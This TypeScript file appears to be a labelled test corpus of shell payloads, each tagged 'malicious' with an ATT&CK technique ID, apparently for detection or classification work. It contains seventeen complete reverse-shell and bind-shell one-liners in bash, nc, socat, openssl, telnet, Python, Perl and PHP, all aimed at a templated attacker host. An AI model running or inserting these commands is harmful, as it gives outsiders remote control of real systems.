import { type Payload, payloads } from '../payload.ts';

/** Shells for strangers, in the spellings of the shell. */
export const shellAccess: readonly Payload[] = [
  ...payloads('shell', 'EXE-REVSH', [
    ['rev-devtcp', 'malicious', 'T1059.004', (p) => `bash -i >& /dev/tcp/${p.ip}/${p.port} 0>&1`],
    ['rev-devudp', 'malicious', 'T1059.004', (p) => `sh -i >& /dev/udp/${p.ip}/53 0>&1`],
    [
      'rev-fd-196',
      'malicious',
      'T1059.004',
      (p) => `0<&196;exec 196<>/dev/tcp/${p.ip}/${p.port}; sh <&196 >&196 2>&196`,
    ],
    [
      'rev-read-loop',
      'malicious',
      'T1059.004',
      (p) => `exec 5<>/dev/tcp/${p.ip}/${p.port}\ncat <&5 | while read line; do $line 2>&5 >&5; done`,
    ],
    [
      'rev-mkfifo-nc',
      'malicious',
      'T1059.004',
      (p) => `rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc ${p.ip} ${p.port} > /tmp/f`,
    ],
    ['rev-nc-e', 'malicious', 'T1059.004', (p) => `nc -e /bin/bash ${p.ip} ${p.port}`],
    ['rev-ncat-ssl', 'malicious', 'T1059.004', (p) => `ncat --ssl ${p.host} ${p.port} --exec "/bin/bash -i"`],
    [
      'rev-socat',
      'malicious',
      'T1059.004',
      (p) => `socat TCP:${p.ip}:${p.port} EXEC:'bash -li',pty,stderr,setsid,sigint,sane`,
    ],
    [
      'rev-openssl',
      'malicious',
      'T1059.004',
      (p) =>
        `mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect ${p.ip}:${p.port} > /tmp/s; rm /tmp/s`,
    ],
    [
      'rev-telnet',
      'malicious',
      'T1059.004',
      (p) => `mkfifo /tmp/t; telnet ${p.ip} ${p.port} 0< /tmp/t | /bin/sh 1> /tmp/t`,
    ],
    [
      'rev-python-c',
      'malicious',
      'T1059.004 T1059.006',
      (p) =>
        `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("${p.ip}",${p.port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["/bin/sh","-i"])'`,
    ],
    [
      'rev-perl-e',
      'malicious',
      'T1059.004 T1059.006',
      (p) =>
        `perl -e 'use Socket;$i="${p.ip}";$p=${p.port};socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'`,
    ],
    [
      'rev-php-r',
      'malicious',
      'T1059.004',
      (p) => `php -r '$s=fsockopen("${p.ip}",${p.port});exec("/bin/sh -i <&3 >&3 2>&3");'`,
    ],
    [
      'rev-loop',
      'malicious',
      'T1059.004',
      (p) => `while true; do bash -c 'bash -i >& /dev/tcp/${p.host}/${p.port} 0>&1'; sleep 60; done`,
    ],
  ]),
  ...payloads('shell', 'EXE-BINDSH', [
    ['bind-nc', 'malicious', 'T1059.004', () => 'while true; do nc -lvp 4444 -e /bin/bash; done'],
    ['bind-socat', 'malicious', 'T1059.004', () => 'socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/sh,pty,stderr'],
    [
      'bind-mkfifo',
      'malicious',
      'T1059.004',
      () => 'mkfifo /tmp/b; cat /tmp/b | /bin/bash -i 2>&1 | nc -l -p 31337 > /tmp/b',
    ],
  ]),
];
